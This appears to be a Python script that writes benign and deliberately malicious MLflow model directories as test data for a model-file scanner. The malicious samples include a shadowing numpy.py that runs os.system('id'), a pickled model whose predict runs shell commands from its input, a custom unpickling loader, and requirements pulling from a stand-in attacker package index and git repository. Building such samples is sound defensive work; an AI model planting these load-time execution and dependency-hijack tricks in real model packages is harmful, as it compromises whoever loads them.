"""Writes the MLflow model directory samples of testdata/pyformats.

Debian has no python3-mlflow and the build machine has no package index,
so the directories are written here the way MLflow 2.x save_model writes
them (mlflow/sklearn/__init__.py, mlflow/pytorch/__init__.py,
mlflow/pyfunc/model.py, mlflow/utils/environment.py): MLmodel, conda.yaml,
python_env.yaml, requirements.txt, and the model pickled by the library
MLflow uses (cloudpickle for sklearn's default serialization_format,
torch.save with cloudpickle as pickle_module for pytorch). Run with
Debian's interpreter: /usr/bin/python3 make_mlflow.py.
"""
import os
import shutil

import cloudpickle
import numpy as np
import torch
from sklearn.linear_model import LogisticRegression

HERE = os.path.dirname(os.path.abspath(__file__))

CONDA = """channels:
- conda-forge
dependencies:
- python=3.11.2
- pip<=23.0.1
- pip:
  - mlflow==2.8.0
{pip}name: mlflow-env
"""

PYTHON_ENV = """python: 3.11.2
build_dependencies:
- pip==23.0.1
- setuptools==66.1.1
- wheel==0.38.4
dependencies:
- -r requirements.txt
"""


def write(d, name, text):
    p = os.path.join(d, name)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    mode = "wb" if isinstance(text, bytes) else "w"
    with open(p, mode) as f:
        f.write(text)


def mlmodel(flavors, extra=""):
    return ("artifact_path: model\nflavors:\n" + flavors + extra +
            "mlflow_version: 2.8.0\nmodel_uuid: 5b7c3e0a2f3f4f0e9d1f0a1b2c3d4e5f\n"
            "utc_time_created: '2026-12-07 06:00:00.000000'\n")


def env(d, reqs):
    pip = "".join("  - %s\n" % r for r in reqs)
    write(d, "conda.yaml", CONDA.format(pip=pip))
    write(d, "python_env.yaml", PYTHON_ENV)
    write(d, "requirements.txt", "\n".join(["mlflow==2.8.0"] + reqs))


def fresh(kind, name):
    d = os.path.join(HERE, kind, name)
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    return d


SKLEARN_FLAVORS = """  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: {loader}
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.2
{code}  sklearn:
    code: {sk_code}
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.2.1
"""


def sklearn_model(d, loader="mlflow.sklearn", code=None):
    rng = np.random.RandomState(0)
    X = rng.rand(30, 3)
    y = (X[:, 0] > 0.5).astype(int)
    write(d, "model.pkl", cloudpickle.dumps(LogisticRegression().fit(X, y)))
    code_line = "    code: %s\n" % code if code else ""
    write(d, "MLmodel", mlmodel(SKLEARN_FLAVORS.format(loader=loader, code=code_line, sk_code=code or "null")))


def pytorch_model(d, pickle_module="mlflow.pytorch.pickle_module"):
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.ReLU(), torch.nn.Linear(4, 1))
    os.makedirs(os.path.join(d, "data"), exist_ok=True)
    torch.save(net, os.path.join(d, "data", "model.pth"), pickle_module=cloudpickle)
    write(d, "data/pickle_module_info.txt", pickle_module)
    write(d, "MLmodel", mlmodel("""  python_function:
    data: data
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.pytorch
    pickle_module_name: mlflow.pytorch.pickle_module
    python_version: 3.11.2
  pytorch:
    code: null
    model_data: data
    pytorch_version: 1.13.1
"""))
    env(d, ["cloudpickle==2.2.0", "torch==1.13.1"])


def main():
    d = fresh("benign", "mlflow_sklearn")
    sklearn_model(d)
    env(d, ["cloudpickle==2.2.0", "scikit-learn==1.2.1"])
    # MLflow 2 also logs metadata/ copies of MLmodel and the environment
    # files, and a registry download adds registered_model_meta.
    for name in ("MLmodel", "conda.yaml", "python_env.yaml", "requirements.txt"):
        with open(os.path.join(d, name)) as f:
            write(d, "metadata/" + name, f.read())
    write(d, "registered_model_meta", "model_name: churn\nmodel_version: '3'\n")

    d = fresh("benign", "mlflow_pytorch")
    pytorch_model(d)

    # A custom loader_module shipped in code/: its _load_pyfunc runs at load.
    d = fresh("malicious", "mlflow_custom_loader")
    sklearn_model(d, loader="loader_mod", code="code")
    write(d, "code/loader_mod.py", "import pickle\n\n\ndef _load_pyfunc(path):\n    with open(path, 'rb') as f:\n        return pickle.load(f)\n")
    env(d, ["cloudpickle==2.2.0", "scikit-learn==1.2.1"])

    # code/ shadows numpy: MLflow puts it first on sys.path.
    d = fresh("malicious", "mlflow_code_shadows_numpy")
    sklearn_model(d, code="code")
    write(d, "code/numpy.py", "import os\nos.system('id')\n")
    env(d, ["cloudpickle==2.2.0", "scikit-learn==1.2.1"])

    # Dependencies from an attacker's index and a git checkout.
    d = fresh("malicious", "mlflow_requirements_index")
    sklearn_model(d)
    env(d, ["--extra-index-url https://pypi.attacker.example/simple", "scikit-learn==1.2.1",
            "helper @ git+https://github.com/attacker/helper.git"])

    # torch.load with a pickle module of the model's choosing.
    d = fresh("malicious", "mlflow_pytorch_pickle_module")
    pytorch_model(d, pickle_module="evil_unpickler")

    # A custom pyfunc whose PythonModel is pickled by value by cloudpickle.
    d = fresh("malicious", "mlflow_pyfunc_python_model")

    class Model:
        def predict(self, context, model_input):
            return os.system(model_input)

    write(d, "python_model.pkl", cloudpickle.dumps(Model()))
    write(d, "MLmodel", mlmodel("""  python_function:
    cloudpickle_version: 2.2.0
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.pyfunc.model
    python_model: python_model.pkl
    python_version: 3.11.2
"""))
    env(d, ["cloudpickle==2.2.0"])

    # Model from code: loading executes model.py.
    d = fresh("malicious", "mlflow_model_from_code")
    write(d, "model.py", "import mlflow\nfrom mlflow.models import set_model\n\nclass M(mlflow.pyfunc.PythonModel):\n    def predict(self, context, model_input):\n        return model_input\n\nset_model(M())\n")
    write(d, "MLmodel", mlmodel("""  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.pyfunc.model
    model_code_path: model.py
    python_version: 3.11.2
"""))
    env(d, [])


if __name__ == "__main__":
    main()
